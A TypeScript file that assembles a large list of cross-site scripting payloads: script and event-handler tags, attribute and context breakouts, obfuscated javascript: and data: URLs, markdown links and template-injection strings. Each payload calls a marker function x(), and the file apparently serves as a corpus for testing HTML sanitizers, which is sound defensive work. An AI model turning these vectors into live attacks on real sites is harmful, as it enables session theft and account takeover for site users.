// Texts that run in pages which take text for markup. Each calls `x()`.

const tags = [
  '<script>x()</script>',
  '<img src onerror=x()>',
  '<IMG SRC=q ONERROR=x()>',
  '<img/src=q/onerror=x()>',
  '<img src=q onerror=&#120;()>',
  '<img src=q onerror="x()"//',
  '<svg onload=x()>',
  '<svg/onload=x()//',
  '<svg><script>x()</script></svg>',
  '<svg><animate onbegin=x() attributeName=x dur=1s>',
  '<svg><set onbegin=x() attributeName=x>',
  '<svg><style><img src onerror=x()></style></svg>',
  '<math><mtext></p><img src onerror=x()>',
  '<body onload=x()>',
  '<details open ontoggle=x()>',
  '<video src=q onerror=x()>',
  '<video><source onerror=x()>',
  '<audio src=q onerror=x()>',
  '<input autofocus onfocus=x()>',
  '<select autofocus onfocus=x()>',
  '<q tabindex=1 autofocus onfocus=x()>',
  '<a href=javascript:x()>q</a>',
  '<iframe src=javascript:parent.x()>',
  '<iframe srcdoc="<script>parent.x()</script>">',
  '<object data=javascript:parent.x()>',
  '<embed src=javascript:parent.x()>',
  '<form action=javascript:x()><button>q',
  '<button formaction=javascript:x()>q',
  '<style>@import "javascript:x()"</style>',
  '<link rel=stylesheet href=javascript:x()>',
  '<base href=javascript:/x()//>',
  '<meta http-equiv=refresh content="0;url=javascript:x()">',
  '<template><img src onerror=x()></template>',
  '<noscript><p title="</noscript><img src onerror=x()>">',
  '<scr<script>ipt>x()</scr</script>ipt>',
  '<<script>x()//<</script>',
  '<p style=animation-name:q onanimationstart=x()>',
];
/** What ends the place a text stands in. */
const ends = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]></style></noscript>'];

const attributes = ['onmouseover', 'onfocus', 'onpointerenter', 'onanimationend'].flatMap((name) => [
  `" ${name}=x() autofocus "`,
  `' ${name}=x() autofocus '`,
  `q ${name}=x() autofocus`,
]);
const addresses = [
  'javascript:x()',
  'JaVaScRiPt:x()',
  'java\tscript:x()',
  'javascript&colon;x()',
  '&#106;avascript:x()',
  'vbscript:x()',
  'data:text/html,<script>x()</script>',
  'data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=',
  'https://a.example/"onmouseover="x()',
  'https://a.example/<img/src/onerror=x()>',
];
const written = addresses.flatMap((address) => [
  address,
  `[q](${address})`,
  `![q](${address})`,
  `<${address}>`,
  `[q]: ${address}\n[q]`,
]);
const templates = [
  '{{x()}}',
  '{x()}',
  `${'$'}{x()}`,
  '#{x()}',
  '<%= x() %>',
  '{@html "<img src onerror=x()>"}',
  '{{constructor.constructor("x()")()}}',
  '"};x();//',
  "';x();//",
  '\\u003cscript>x()</script>',
  '&lt;img src onerror=x()&gt;',
  '%3Cimg%20src%20onerror=x()%3E',
  '**<img src onerror=x()>**',
  '`<img src onerror=x()>`',
  '```<img src onerror=x()>\n<img src onerror=x()>\n```',
  '> <img src onerror=x()>',
  '- <img src onerror=x()>',
  '@<img src onerror=x()>',
];

/** Tags out of every place, attributes, addresses and templates. */
export const scripts: readonly string[] = [
  ...ends.flatMap((end) => tags.map((tag) => end + tag)),
  ...attributes,
  ...written,
  ...templates,
];
